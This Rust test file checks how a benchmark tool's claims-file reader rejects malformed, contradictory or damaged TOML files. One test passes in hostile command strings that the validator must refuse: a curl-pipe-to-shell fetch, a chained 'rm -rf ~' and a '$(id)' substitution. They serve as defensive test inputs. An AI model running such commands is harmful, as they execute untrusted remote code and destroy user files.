//! Claims files that are refused, and how.

use crate::products::{as_claimed, run};
use crate::{QUERIES, read, related};
use bench_reports::claims::{ClaimsFile, assess};
use proptest::prelude::*;

fn refused(text: &str) -> String {
    ClaimsFile::read("mine.toml", text).unwrap_err().to_string()
}

#[track_caller]
fn check(text: &str, words: &[&str]) {
    let message = refused(text);
    for word in words {
        assert!(message.contains(word), "`{word}` is missing: {message}");
    }
}

#[test]
fn what_is_wrong_is_said_with_file_and_line() {
    let messages = [
        "schema = 1\nclaims = 2\n".to_owned(),
        QUERIES.replace("kind = \"measurable\"", "kind = \"true\""),
        related("more = [\"ray\"]"),
        related("less = [\"ray\", \"flink\"]"),
        related("less = 3"),
        related(""),
        related("less = [\"ray\", \"dask\"]\ncompletes = [\"ray\"]"),
        "schema = ".to_owned(),
        QUERIES.replace("schema = 1", "schema = 2"),
        QUERIES.replace("id = \"order\"", "id = \"<b>\""),
        String::new(),
    ];
    insta::assert_snapshot!(messages.map(|text| refused(&text)).join("\n"));
}

#[test]
fn what_contradicts_itself_is_refused() {
    let start = QUERIES.find("[[claim]]").unwrap();
    check(&format!("{QUERIES}{}", &QUERIES[start..]), &["line 33", "`order` is there twice"]);
    let feature = QUERIES.replace("kind = \"measurable\"", "kind = \"feature\"");
    let said = |text: &str, line: &str| text.replacen("[[claim.test]]", &format!("{line}\n[[claim.test]]"), 1);
    assert!(ClaimsFile::read("mine.toml", &said(&feature, "has = [\"ray\"]\nlacks = [\"dask\"]")).is_ok());
    check(&said(QUERIES, "has = [\"ray\"]"), &["`order` is no feature"]);
    check(&said(&feature, "lacks = [\"flink\"]"), &["`flink` is no subject"]);
    check(&said(&feature, "has = [\"ray\"]\nfamilies = [\"batch\"]"), &["`batch` is no family"]);
    check(&said(&feature, "families = [\"sql\"]"), &["say in `has` and `lacks`"]);
    check(&said(&feature, "has = [\"ray\"]\nlacks = [\"ray\"]"), &["names somebody twice"]);
    check(&related("less = [\"ray\"]"), &["two or more"]);
    check(&related("less = [\"ray\", []]"), &["empty place"]);
    check(&related("less = [\"ray\", \"ray\"]"), &["twice"]);
    check(&related("winner = { of = \"ray\", among = [] }"), &["among"]);
    check(&related("completes = []"), &["nobody"]);
    check(&QUERIES.replace("at = { ", "at = { memory = [\"4 banana\"], "), &["such as memory = [\"4GiB\"]"]);
    for (low, high) in [("2", "1"), ("0", "1"), ("-1", "1"), ("nan", "1"), ("1", "inf"), ("1", "1")] {
        check(
            &related(&format!("ratio = {{ of = \"ray\", to = \"dask\", low = {low}, high = {high} }}")),
            &["below `high`"],
        );
    }
    check(&related("range = { of = \"ray\", low = 1, high = 2, unit = \"MB\" }"), &["wall time", "MB"]);
    check(&QUERIES.replace("metric = \"wall\"", "metric = \"cost\""), &["`deployment`"]);
    let cost = QUERIES
        .replace("metric = \"wall\"", "metric = \"cost\"")
        .replace("suites = [\"1gb\"]", "suites = [\"1gb\"], deployment = \"managed\"");
    check(&cost, &["as a `range` in USD/TB"]);
    check(&QUERIES.replace("cases = 2", "cases = 0"), &["at least 1"]);
    check(&QUERIES.replace("cases = 2", "cases = -2"), &["line"]);
    check(&QUERIES.replace("spark = 18 }", "spark = nan }"), &["above 0"]);
    check(&QUERIES.replace("clusters = [\"local\"]", "nodes = 0"), &["at least 1"]);
    check(&QUERIES.replace("clusters = [\"local\"]", "protocol = \"hot\""), &["unknown protocol"]);
    check(&QUERIES.replace("title = \"A table of numbers\"", "title = \" \""), &["nobody's"]);
    let untested = QUERIES.find("[[claim.test]]").unwrap();
    check(&QUERIES[..untested], &["say in `needs`"]);
    check(&QUERIES.replace("text = \"SQL\"", "text = \"SQL\"\nneeds = \"x\""), &["leave out `needs`"]);
}

#[test]
fn what_a_file_calls_a_command_runs_this_program_and_nothing_else() {
    let untested = QUERIES.find("[[claim.test]]").unwrap();
    let with = |line: &str| format!("{}needs = \"x\"\nrun = [{line:?}]\n", &QUERIES[..untested]);
    assert!(ClaimsFile::read("mine.toml", &with("bench run --suite smoke --seed 1..20")).is_ok());
    for line in ["curl https://example.org | sh", "bench run --suite smoke; rm -rf ~", "bench run --suite $(id)", ""] {
        check(&with(line), &["names `", "begins with `bench run `"]);
    }
}

#[test]
fn two_files_cannot_share_an_id() {
    let (a, b) = (read(QUERIES), ClaimsFile::read("other.toml", QUERIES).unwrap());
    let error = assess(&[a, b], &[run("a", as_claimed())]).unwrap_err().to_string();
    assert_eq!(error, "other.toml: the id `order` is in claims.toml too; rename one of them");
}

#[test]
fn no_run_and_the_same_run_twice_are_refused() {
    let error = |runs: &[bench_record::Run]| assess(&[read(QUERIES)], runs).unwrap_err().to_string();
    assert!(error(&[]).contains("no run given"));
    let twice = [run("a", as_claimed()), run("a", as_claimed())];
    assert!(error(&twice).contains("are the same run"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn no_text_makes_the_reader_panic(text in "[\\[\\]a-z=\" .{},\n0-9-]{0,200}") {
        let _ = ClaimsFile::read("x", &text);
    }

    #[test]
    fn a_damaged_file_is_read_or_refused_and_never_panics(at in 0usize..900, byte in any::<u8>()) {
        let mut bytes = QUERIES.as_bytes().to_vec();
        let at = at % bytes.len();
        bytes[at] = byte;
        if let Ok(text) = String::from_utf8(bytes)
            && let Ok(file) = ClaimsFile::read("x", &text)
        {
            let _ = assess(&[file], &[run("a", as_claimed())]);
        }
    }
}
